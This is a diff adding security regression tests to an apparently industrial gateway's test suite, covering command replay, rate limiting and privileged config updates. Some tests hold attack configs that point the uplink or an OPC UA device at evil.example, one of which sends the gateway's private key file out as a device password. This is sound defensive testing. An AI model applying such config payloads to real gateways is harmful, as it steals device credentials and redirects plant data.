@@ -319,6 +319,18 @@ async def test_one_key_cannot_drive_unbounded_plc_reads(centre: Centre) -> None:
     assert (await centre.send("read_now", centre.sign("read_now", key="viewer")))["status"] == "ok"
 
 
+async def test_replays_of_a_captured_command_do_not_use_up_its_keys_rate(centre: Centre) -> None:
+    """Whoever may publish on the command topic (a central service's account) but holds no
+    operator key can resend a command it saw: the replays are refused, and used to count against
+    the key's rate, locking its operator out for the minute."""
+    captured = centre.sign("read_now", key="viewer")
+    assert (await centre.send("read_now", captured))["status"] == "ok"
+    limit = centre.config.max_commands_per_minute
+    replays = [await centre.send("read_now", captured) for _ in range(2 * limit)]
+    assert {a["reason"].split(":")[0] for a in replays} == {"replay"}
+    assert (await centre.send("read_now", centre.sign("read_now", key="viewer")))["status"] == "ok"
+
+
 # ---------------------------------------------------------------- finding 5: config_update within rights
 
 BASE_CONFIG = """schema_version = 1
@@ -399,6 +411,15 @@ ATTACKS = {
         lambda t: t.replace('state_dir = "', 'state_dir = "/tmp/elsewhere'),
         "security",
     ),
+    # The outbox quarantines a file that is not an outbox; the status socket replaces its path.
+    "the outbox pointed at the nonce store": (
+        lambda t: t.replace("[buffer]\n", '[buffer]\npath = "nonces.sqlite"\n'),
+        "security",
+    ),
+    "the status socket pointed at the device key": (
+        lambda t: t.replace("[buffer]\n", '[status]\nsocket = "identity/current/key.pem"\n[buffer]\n'),
+        "security",
+    ),
 }
 
 
@@ -437,6 +458,81 @@ async def test_config_update_needs_its_own_right_for_security_writes_and_uplink(
     )
     assert ok["status"] == "ok", ok
     assert (etc / "config.toml").read_text() == new
+
+
+async def test_a_failover_uplink_is_not_redirected_without_the_uplink_right(
+    managed: tuple[Centre, Path],
+) -> None:
+    c, etc = managed
+    on_servers = (
+        (etc / "config.toml")
+        .read_text()
+        .replace('host = "mqtt.north.example"\nport = 8883', 'servers = ["mqtts://mqtt.north.example:8883"]')
+    )
+    detail = await c.send(
+        "config_update", c.sign("config_update", {"config": on_servers, "restart": False}, key="admin")
+    )
+    assert detail["status"] == "ok", detail
+    for attack in (
+        on_servers.replace(
+            'servers = ["mqtts://mqtt.north.example:8883"]', 'servers = ["mqtts://evil.example:8883"]'
+        ),
+        on_servers.replace("[buffer]\n", '[uplink.sparkplug]\nedge_node_id = "gw-02"\n[buffer]\n').replace(
+            "[uplink.tls]", 'encoding = "sparkplug_b"\n[uplink.tls]'
+        ),
+    ):
+        refused = await c.send("config_update", c.sign("config_update", {"config": attack, "restart": False}))
+        assert refused["status"] == "refused", refused
+        assert "(needs the 'uplink' right)" in refused["reason"], refused["reason"]
+        assert (etc / "config.toml").read_text() == on_servers
+
+
+HISTORIAN = """
+[[devices]]
+name = "historian"
+kind = "opcua"
+endpoint = "{endpoint}"
+username = "gw-01"
+password = {{ file = "{secret}" }}
+[[devices.tags]]
+name = "flow"
+node = "ns=2;s=flow"
+"""
+
+
+async def test_no_device_carries_a_gateway_secret_to_a_server_without_the_security_right(
+    managed: tuple[Centre, Path], tmp_path: Path
+) -> None:
+    """The device key (0600, the agent's) passes the secret file check: an OPC UA device added by
+    a key with only config_update sent it as its password to a server of that key's choosing."""
+    c, etc = managed
+    device_key = tmp_path / "state" / "identity" / "current" / "key.pem"
+    device_key.parent.mkdir(parents=True)
+    device_key.write_text("-----BEGIN PRIVATE KEY-----\n")
+    os.chmod(device_key, 0o600)
+    before = (etc / "config.toml").read_text()
+
+    async def update(text: str, key: str = "ops") -> dict[str, Any]:
+        return await c.send(
+            "config_update", c.sign("config_update", {"config": text, "restart": False}, key=key)
+        )
+
+    exfiltrate = before + HISTORIAN.format(endpoint="opc.tcp://evil.example:4840", secret=device_key)
+    refused = await update(exfiltrate)
+    assert refused["status"] == "refused", refused
+    assert "devices (historian: a secret reference) (needs the 'security' right)" in refused["reason"]
+    assert (etc / "config.toml").read_text() == before
+
+    # An administrator adds a device that reads its password from a file ...
+    ours = before + HISTORIAN.format(endpoint="opc.tcp://10.1.0.30:4840", secret=device_key)
+    assert (await update(ours, key="admin"))["status"] == "ok"
+    # ... which an ordinary key may then neither point elsewhere ...
+    moved = ours.replace("opc.tcp://10.1.0.30:4840", "opc.tcp://evil.example:4840")
+    assert (await update(moved))["status"] == "refused"
+    # ... nor find in the way of an ordinary change.
+    assert (await update(ours.replace("flush_interval_ms = 200", "flush_interval_ms = 500")))[
+        "status"
+    ] == "ok"
 
 
 async def test_an_ordinary_config_change_lands_in_the_managed_file(managed: tuple[Centre, Path]) -> None:
